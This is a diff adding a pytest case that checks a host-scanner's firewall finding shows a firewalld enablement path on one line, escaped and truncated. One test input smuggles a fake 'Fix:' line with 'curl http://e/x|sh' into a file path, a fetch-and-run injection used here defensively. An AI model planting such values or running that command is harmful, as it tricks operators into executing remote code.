@@ -881,3 +881,39 @@ INSTALLS = {
 def test_install_section_read_as_systemd_reads_it(case):
     data, want = INSTALLS[case]
     assert host.unit_file_state_from_install(data) == want
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/etc/systemd/system/multi-user.target.wants/firewalld.service",
+        "/etc/systemd/system/x\nFix: bkdoctor fix --rule firewall; curl http://e/x|sh #.target.wants/firewalld.service",
+        "/etc/systemd/system/" + "d" * 400 + ".target.wants/firewalld.service",
+        "/etc/systemd/system/a\\nb\r.target.wants/firewalld.service",
+    ],
+)
+def test_the_entry_that_starts_firewalld_is_one_line_in_the_finding(path):
+    """The path comes from the host: a newline in it never makes a line of its own in the terminal (the message and
+    observed show it as \\n), and a long one keeps its end (the unit's name)."""
+    from bkdoctor.inputs.thresholds import merge
+    from bkdoctor.scan.engine import Context, evaluate
+    from bkdoctor.scan.loader import all_rules
+
+    out = f"enabled\n{host._FW_VIA}{path}\n".encode()
+    secs = {
+        "systemd_running": host.Section("systemd_running", 0, b"yes\n"),
+        "firewalld_active": host.Section("firewalld_active", 4, b""),
+        "firewalld_enabled": host.Section("firewalld_enabled", 0, out),
+        "processes": host.Section("processes", 0, f"{host._STAT_HEADER}\n1 (systemd) S 0 1\n".encode()),
+        "iptables": host.Section("iptables", 0, b"-P INPUT ACCEPT\n"),
+        "id": host.Section("id", 0, b"0\n"),
+    }
+    facts = HostFacts(secs)
+    assert facts.firewalld["enabled_by"] == path
+    ctx = Context(target="t", roles=("node",), address=None, thresholds=merge(None), domain="a.b")
+    res = evaluate(next(r for r in all_rules() if r.id == "firewall"), facts, ctx)
+    assert res.status == "warn", res
+    shown = res.observed["firewalld_enabled_by"]
+    assert "\n" not in shown and "\r" not in shown and shown.endswith("firewalld.service") and len(shown) <= 200
+    assert res.message.en.endswith(f" ({shown})") and res.message.zh.endswith(f"（{shown}）"), res.message
+    assert "\n" not in res.message.en + res.message.zh
